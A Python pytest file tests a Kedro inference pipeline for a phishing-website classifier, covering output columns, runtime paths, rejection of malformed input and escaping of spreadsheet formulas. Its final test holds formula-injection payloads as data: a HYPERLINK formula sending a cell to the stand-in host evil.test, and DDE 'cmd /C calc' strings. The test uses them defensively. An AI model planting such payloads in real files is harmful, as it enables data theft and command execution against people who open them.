"""``kedro run --pipeline inference`` end to end, through a KedroSession on a temporary copy of
the project with a champion model fitted on the committed synthetic sample."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from kedro.io import DatasetError

from network_security.reasons import REASONS_COLUMN
from network_security.schema import feature_columns
from network_security.scoring import OUTPUT_COLUMNS, InputValidationError


def cause(error: BaseException) -> InputValidationError:
    """The ``InputValidationError`` behind an error raised by the run."""
    current: BaseException | None = error
    while current is not None and not isinstance(current, InputValidationError):
        current = current.__cause__
    assert current is not None, f"no InputValidationError behind {error!r}"
    return current


def files_in(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir()) if directory.exists() else []


@pytest.fixture
def project(kedro_project: Path, write_champion) -> Path:
    write_champion(kedro_project)
    return kedro_project


def test_scoring_the_committed_batch_writes_predictions_with_every_column(
    project, run_kedro, schema
):
    batch = project / "data" / "01_raw" / "new_batch.csv"  # the default input path
    assert batch.exists(), "the committed synthetic batch data/01_raw/new_batch.csv is missing"
    sites = pd.read_csv(batch)
    run_kedro(project, "inference")
    output = project / "data" / "07_model_output" / "predictions.csv"  # the default output path
    scored = pd.read_csv(output)
    assert len(scored) == len(sites) == 500
    assert list(scored.columns) == [*sites.columns, *OUTPUT_COLUMNS, REASONS_COLUMN]
    assert scored["url"].tolist() == sites["url"].tolist()
    pd.testing.assert_frame_equal(scored[feature_columns(schema)], sites[feature_columns(schema)])
    assert scored["phishing_probability"].between(0, 1).all()
    assert set(scored["prediction"]) == {-1, 1}
    assert set(scored["label"]) == {"phishing", "legitimate"}
    assert set(scored["risk_level"]) <= {"low", "medium", "high", "critical"}
    assert set(scored["recommended_action"]) <= {"allow", "review", "block"}
    assert set(scored["model_version"]) == {"test-rf-1"}
    assert files_in(output.parent) == ["predictions.csv"]


def test_paths_and_chunk_size_come_from_runtime_parameters(project, run_kedro, new_sites, tmp_path):
    source = tmp_path / "incoming" / "sites.csv"
    source.parent.mkdir()
    new_sites(700, seed=2).to_csv(source, index=False)
    outputs = {}
    for chunksize in (50, 1_000_000):
        target = tmp_path / "scored" / f"by_{chunksize}.csv"
        run_kedro(
            project,
            "inference",
            {
                "inference_input_path": str(source),
                "inference_output_path": str(target),
                "inference_chunksize": chunksize,
            },
        )
        outputs[chunksize] = target.read_bytes()
    assert outputs[50] == outputs[1_000_000]
    assert outputs[50].count(b"\n") == 701
    assert not (project / "data" / "07_model_output" / "predictions.csv").exists()


def _drop_column(lines: list[str]) -> list[str]:
    header = lines[0].split(",")
    at = header.index("SSLfinal_State")
    return [",".join(c for i, c in enumerate(line.split(",")) if i != at) for line in lines]


def _set_cell(value: str):
    def edit(lines: list[str]) -> list[str]:
        at = lines[0].split(",").index("web_traffic")
        cells = lines[42].split(",")
        cells[at] = value
        return [*lines[:42], ",".join(cells), *lines[43:]]

    return edit


BAD_INPUTS = {
    "missing column": (_drop_column, "missing column 'SSLfinal_State'", "SSLfinal_State", None),
    "text cell": (_set_cell("unknown"), "value 'unknown' is not an integer", "web_traffic", 42),
    "out of domain": (_set_cell("2"), "value '2' is not an allowed value", "web_traffic", 42),
    "empty file": (lambda lines: [], "the file is empty", None, None),
    "header only": (lambda lines: lines[:1], "no data rows", None, None),
}


@pytest.mark.parametrize("case", [*BAD_INPUTS, "binary file"])
def test_bad_input_stops_the_run_naming_the_problem_and_leaves_no_output(
    project, run_kedro, new_sites, tmp_path, case
):
    source = tmp_path / "bad.csv"
    if case == "binary file":
        source.write_bytes(bytes(range(256)) * 64)
        words, column, row = "binary file", None, None
    else:
        edit, words, column, row = BAD_INPUTS[case]
        lines = edit(new_sites(300).to_csv(index=False).splitlines())
        source.write_text("\n".join(lines) + ("\n" if lines else ""))
    output = project / "data" / "07_model_output" / "predictions.csv"
    with pytest.raises((InputValidationError, DatasetError)) as caught:
        run_kedro(project, "inference", {"inference_input_path": str(source)})
    error = cause(caught.value)
    assert words in str(caught.value)
    assert str(source) in str(caught.value)
    assert (error.column, error.row) == (column, row)
    assert files_in(output.parent) == []  # no predictions, no partial temporary file


def test_formula_cells_of_the_input_come_out_neutralised_in_predictions(
    project, run_kedro, new_sites, tmp_path, schema
):
    sites = new_sites(6, seed=4)
    sites["url"] = [
        '=HYPERLINK("http://evil.test/?"&A2,"open")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "https://fine.example/?a=1",
        "-1",
    ]
    source = tmp_path / "sites.csv"
    sites.to_csv(source, index=False)
    target = tmp_path / "predictions.csv"
    run_kedro(
        project,
        "inference",
        {"inference_input_path": str(source), "inference_output_path": str(target)},
    )
    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header, cells = rows[0], rows[1:]
    urls = [row[header.index("url")] for row in cells]
    assert urls == [
        '\'=HYPERLINK("http://evil.test/?"&A2,"open")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "https://fine.example/?a=1",
        "-1",  # a number stays a number
    ]
    # the features and the verdict are numbers, written as numbers
    scored = pd.read_csv(target)
    pd.testing.assert_frame_equal(scored[feature_columns(schema)], sites[feature_columns(schema)])
    assert set(scored["prediction"]) <= {-1, 1}
    assert scored["phishing_probability"].dtype == float
